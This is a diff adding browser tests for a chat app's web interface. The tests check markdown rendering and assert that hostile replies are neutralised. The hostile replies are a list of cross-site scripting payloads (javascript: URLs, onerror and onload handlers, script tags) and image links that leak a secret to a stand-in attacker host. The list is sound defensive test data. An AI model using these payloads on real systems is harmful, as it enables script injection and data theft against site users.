@@ -229,6 +229,164 @@ def test_words_of_both_sides_become_text_and_nothing_else(
     assert page.locator("main a[href^='javascript']").count() == 0
 
 
+MARKDOWN = """# Your order
+
+It is **ready**, *almost*; see `P-1`, 3*4*5 and ~~this~~.
+
+1. one
+2. two
+   - [x] inner
+
+| place | time |
+|-------|------|
+| Basel | 9:00 |
+
+> quoted
+
+    code  with   blanks
+
+[the shop](https://shop.example/a?b=1) or https://www.example.org/x, mail ann@example.org
+"""
+
+
+@pytest.mark.slow
+def test_a_reply_is_shown_as_markdown(serve: Serve, visits: Visits, tmp_path: Path) -> None:
+    (tmp_path / "echo.py").write_text(ECHO)
+    _, place = serve("echo.py")
+    page = visits.open(place, viewport={"width": 360, "height": 700})
+    starts(page)
+
+    says(page, MARKDOWN)
+
+    assert page.locator(".message.user .words").text_content() == MARKDOWN
+    reply = page.locator(".message.assistant .words")
+    expect(reply.locator("h1, h2")).to_have_count(0)
+    expect(reply.locator("strong")).to_have_text(["Your order", "ready"])
+    expect(reply.locator("em")).to_have_text("almost")
+    expect(reply.locator("p").nth(1)).to_have_text("It is ready, almost; see P-1, 3*4*5 and this.")
+    expect(reply.locator("ol > li")).to_have_count(2)
+    expect(reply.locator("td")).to_have_text(["Basel", "9:00"])
+    assert reply.locator("pre").text_content() == "code  with   blanks"
+    links = reply.locator("a")
+    assert [link.get_attribute("href") for link in links.all()] == [
+        "https://shop.example/a?b=1",
+        "https://www.example.org/x",
+        "mailto:ann@example.org",
+    ]
+    assert {link.get_attribute("target") for link in links.all()} == {"_blank"}
+    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer"}
+    assert page.locator("main").evaluate("one => one.scrollWidth > one.clientWidth") is False
+
+
+HOSTILE_REPLIES = (
+    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
+    "[d](data:text/html;base64,PHNjcmlwdD4=) [e](vbscript:x) [f](//evil.example/x) [g](#/s/other)",
+    "[h](&#106;avascript:alert(1)) [i](javascript&colon;alert(1)) [j]( javascript:alert(1))",
+    "<javascript:alert(1)> <img src=x onerror=document.title='owned'> <a href=javascript:x>k</a>",
+    "![pixel](https://evil.example/p.png?secret) ![x][ref]\n\n[ref]: https://evil.example/q.png",
+    "<svg onload=document.title='owned'></svg>\n\n<style>* { display: none }</style>",
+    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
+    "<div onmouseover=\"document.title='owned'\" style='position:fixed;inset:0'>over all</div>",
+    '[x](https://a.example "onclick=alert(1)" onmouseover=alert(1))',
+    "[l](https://a.example/' onclick='document.title=1)",
+    "```html onload=x\n<script>document.title='owned'</script>\n```",
+    "| <script>document.title='owned'</script> |\n|---|\n| <img src=//evil.example/r.png> |",
+    "__proto__ constructor [y][__proto__] [__proto__]: javascript:alert(1)",
+    "> " * 3000 + "deep",
+    "[" * 500 + "a" + "](javascript:alert(1))" * 500,
+    "*a _b " * 1500,
+)
+_UNSAFE = """() => [...document.querySelectorAll(".words *")].filter((one) =>
+  !["P", "A", "OL", "UL", "LI", "EM", "STRONG", "DEL", "CODE", "PRE", "BR", "HR", "BLOCKQUOTE",
+    "DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "I"].includes(one.tagName)
+  || one.getAttributeNames().some((name) => name.startsWith("on") || name === "style")
+  || (one.href && !/^(https?|mailto|tel):/.test(one.href))).map((one) => one.outerHTML)"""
+
+
+@pytest.mark.slow
+def test_no_reply_runs_anything_or_asks_another_server(
+    serve: Serve, visits: Visits, tmp_path: Path
+) -> None:
+    """A request to another server, or a breach of the policy, fails the test."""
+    endless = ECHO.replace("__agents__", '__complete_when__ = ["never"]\n        __agents__', 1)
+    (tmp_path / "echo.py").write_text(endless)
+    _, place = serve("echo.py")
+    page = visits.open(place)
+    starts(page)
+
+    for hostile in HOSTILE_REPLIES:
+        says(page, hostile)
+        expect(page.locator(".message.assistant .words").last).not_to_have_text("")
+        assert page.evaluate(_UNSAFE) == []
+        assert page.title() == "Echo \u00b7 JourneyGraph"
+
+    expect(page.locator(".message.assistant")).to_have_count(len(HOSTILE_REPLIES))
+    expect(page.locator("main a[href^='https://evil.example/p.png']")).to_have_text("pixel")
+
+
+@pytest.mark.slow
+def test_a_click_on_a_message_opens_its_reasons(serve: Serve, visits: Visits) -> None:
+    _, place = serve("table_booking")
+    page = visits.open(place, viewport={"width": 360, "height": 700})
+    starts(page, name="ann")
+    says(page, "a table for four on 24 December 2030")
+    says(page, "is there a menu?")
+
+    page.locator(".message.user .words").first.click()
+    expect(page.get_by_label("Turn", exact=True).locator("option:checked")).to_have_text(
+        re.compile("^1 \u00b7 a table for four")
+    )
+    assert page.url.endswith("#/s/ann/why/1")
+    page.get_by_role("button", name="Next").click()
+    expect(page.locator(".because")).to_contain_text("menu")
+    page.go_back()
+    expect(page.locator(".why .quote").first).to_contain_text("a table for four")
+    page.get_by_role("link", name="Talk").click()
+    page.get_by_role("link", name="Why?").last.press("Enter")
+    expect(page.locator(".because")).to_contain_text("menu")
+    page.evaluate("location.hash = '#/s/ann/why/77'")
+    expect(page.get_by_text("The session has no turn 77.")).to_be_visible()
+
+
+@pytest.mark.slow
+def test_an_empty_chat_shows_sentences_to_begin_with(serve: Serve, visits: Visits) -> None:
+    _, place = serve("table_booking")
+    page = visits.open(place)
+    starts(page)
+    examples = page.get_by_role("list", name="Examples").get_by_role("button")
+    expect(examples).to_have_count(3)
+
+    examples.filter(has_text="guests").click()
+    message = page.get_by_label("Message", exact=True)
+    expect(message).to_be_focused()
+    expect(message).to_have_value("Number of guests: 4")
+    message.press("Enter")
+
+    expect(page.locator(".picture .fields").first).to_contain_text("number of guests: 4")
+    expect(examples).to_have_count(0)
+    expect(page.locator("#hint")).to_have_text(re.compile("^from .*, for example"))
+    expect(message).to_have_attribute("placeholder", "Write a message")
+    expect(message).to_have_accessible_description(re.compile("^from .*, for example"))
+
+
+@pytest.mark.slow
+def test_the_buttons_answer_the_question_that_is_asked(serve: Serve, visits: Visits) -> None:
+    _, place = serve("healthcare_referral")
+    page = visits.open(place)
+    starts(page)  # with the sample values of the journey
+    answers = page.locator(".options:not(.examples)").get_by_role("button")
+
+    assert "Shall I show you the available doctors?" in says(page, "a heart specialist, please")
+    expect(answers).to_have_text(["Yes", "No"])
+    expect(page.locator("#hint")).to_have_count(0)
+    answers.first.click()
+    ended(page)
+
+    expect(page.locator(".message.assistant ol > li")).to_have_count(3)
+    expect(answers.first).to_have_text("Dr. Alan Smith")
+    assert says(page, "xyzzy").count("Dr. Mei Chen") == 1
+
+
 @pytest.mark.slow
 def test_a_conversation_goes_on_after_a_reload_and_a_restart(serve: Serve, visits: Visits) -> None:
     process, place = serve("healthcare_referral")
